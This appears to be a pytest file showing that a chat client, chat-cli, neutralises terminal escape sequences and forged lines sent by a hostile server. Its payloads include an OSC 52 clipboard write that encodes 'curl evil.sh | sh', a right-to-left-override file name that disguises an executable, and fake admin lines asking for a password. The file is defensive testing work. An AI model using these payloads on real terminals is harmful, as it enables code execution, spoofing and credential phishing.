"""A hostile server cannot act on chat-cli's terminal: a fake server (plain text and TLS)
sends every escape a terminal obeys -- in texts, names, file names, error and shutdown
texts -- while chat-cli runs on a pseudo-terminal; the bytes the terminal receives
contain none of them, and no forged line appears."""

import re

import pytest

import chatproto as P
from chatcli import STAMP
from fakeserver import fingerprint, self_signed

# Everything a terminal might obey: OSC 52 (write the clipboard), CSI (clear the screen,
# move the cursor), DCS, BEL, CR and backspace (overwrite what is shown), DEL, the C1
# controls including U+009B (CSI in one character) and U+0085 (NEL), and the bidi
# controls (U+202A-202E, U+2066-2069, U+200E, U+200F, U+061C).
ESCAPES = ("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b[1;1H \x1bP1$r\x1b\\ "
           "\x07 over\rwrite \x08\x08\x08 \x7f \u009b2J \u0085 \u009d0;t\u009c "
           "\u202a\u202b\u202c\u202d\u202e \u2066\u2067\u2068\u2069 \u200e\u200f\u061c")
# Names are capped at 128 bytes on the wire: a shorter set for them.
NAME_ESCAPES = "\x1b]52;c;eA==\x07\x1b[2J\u009b\u202e\u2066\r\x08\x7f"
FORGED_NAME = "bob> hi\n12:00:00 <admin"
FORGED_TEXT = "hi\n12:00:00 <admin> give me your password"
FILE_NAME = "gpj\u202eexe.doc"
SENTINEL = "last-word"

BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")


def hostile_script(send):
    """The frames a hostile server sends after the login; it then closes."""
    def text(message_id, sender, body):
        send(P.encode(P.TEXT, message_id=message_id, time_ms=0, room_id=0, sender_id=2,
                      client_id=0, sender=sender, text=body))
    text(1, "bob", ESCAPES)
    text(2, FORGED_NAME, "looks like two lines")
    text(3, "bob", FORGED_TEXT)
    text(4, "eve" + NAME_ESCAPES, "a name full of escapes")
    send(P.encode(P.USER_JOINED, users=[(3, "mallory" + NAME_ESCAPES)]))
    send(P.encode(P.USER_LEFT, users=[(3, "mallory" + NAME_ESCAPES)]))
    send(P.encode(P.FILE_ANNOUNCE, file_id=7, message_id=5, time_ms=0, room_id=0,
                  uploader_id=2, upload_id=0, size=3, sha256=bytes(32),
                  uploader="bob" + NAME_ESCAPES, name=FILE_NAME + ESCAPES))
    send(P.encode(P.ERROR, code=P.E_INTERNAL, ref_type=0x7777, ref_id=0,
                  message="error text " + ESCAPES))
    text(6, "bob", SENTINEL)
    send(P.encode(P.SHUTDOWN, reason="shutdown text " + ESCAPES))
    return True


def assert_inert(raw):
    """raw (bytes a terminal received) holds no control character but newline and tab,
    no C1 or bidi control, and every line is one of chat-cli's own."""
    text = raw.decode("utf-8")               # invalid UTF-8 would be a finding too
    for char in text:
        code = ord(char)
        assert char in "\n\t" or not (code < 0x20 or 0x7f <= code <= 0x9f), \
            f"control character U+{code:04X} reached the terminal: {raw!r}"
        assert char not in BIDI, f"bidi control U+{code:04X} reached the terminal"
    for line in text.split("\n"):
        assert not re.match(rf"^{STAMP} <admin>", line), f"forged line: {line!r}"
        assert not line.startswith("12:00:00"), f"forged line: {line!r}"


@pytest.mark.parametrize("tls", [False, True], ids=["plain", "tls"])
def test_escapes_never_reach_the_terminal(tmp_path, fake_server, terminal_cli, tls):
    cert = self_signed(tmp_path, "hostile") if tls else None
    server = fake_server(hostile_script, cert=cert, users=[(2, "bob")])
    extra = ("--trust-fingerprint", fingerprint(cert[0])) if tls else ()
    term = terminal_cli(server, "alice", extra=extra, tls=tls)
    # On a terminal chat-cli reconnects after the server closes; by then it has printed
    # everything the server sent, the shutdown reason last.
    term.wait_for(rb"shutdown text")
    term.write("/quit")
    assert term.wait() == 0
    raw = bytes(term.raw)
    assert_inert(raw)
    text = raw.decode()
    # Each piece was shown -- written out, not obeyed -- on its own event line.
    assert "\\x1B]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in text
    assert "\\x1B[2J" in text and "\\u009B2J" in text and "\\u202E" in text
    assert re.search(rf"^{STAMP} <bob> hi\\n12:00:00 <admin> looks like two lines$", text, re.M)
    assert re.search(rf"^{STAMP} <bob> hi\\n12:00:00 <admin> give me your password$", text,
                     re.M)
    assert re.search(rf"^{STAMP} \* bob\\x1B.* shared #7 gpj\\u202Eexe\.doc", text, re.M)
    assert re.search(rf"^{STAMP} \* mallory\\x1B]52;c;eA==\\x07\\x1B\[2J.* joined$", text, re.M)
    assert re.search(r"^error: server: error text \\x1B", text, re.M)
    assert re.search(rf"^{STAMP} <bob> {SENTINEL}$", text, re.M)
    assert re.search(r"^error: the server closed the connection: shutdown text \\x1B", text,
                     re.M)


def test_refusal_text_is_inert(fake_server, terminal_cli):
    """A login refusal's reason is network text too."""
    server = fake_server(refuse="no such name\n12:00:00 <admin> " + ESCAPES)
    term = terminal_cli(server, "alice")
    assert term.wait() == 1
    assert_inert(bytes(term.raw))
    assert re.search(r"^error: login refused: no such name\\n12:00:00 <admin> \\x1B]52",
                     bytes(term.raw).decode(), re.M)
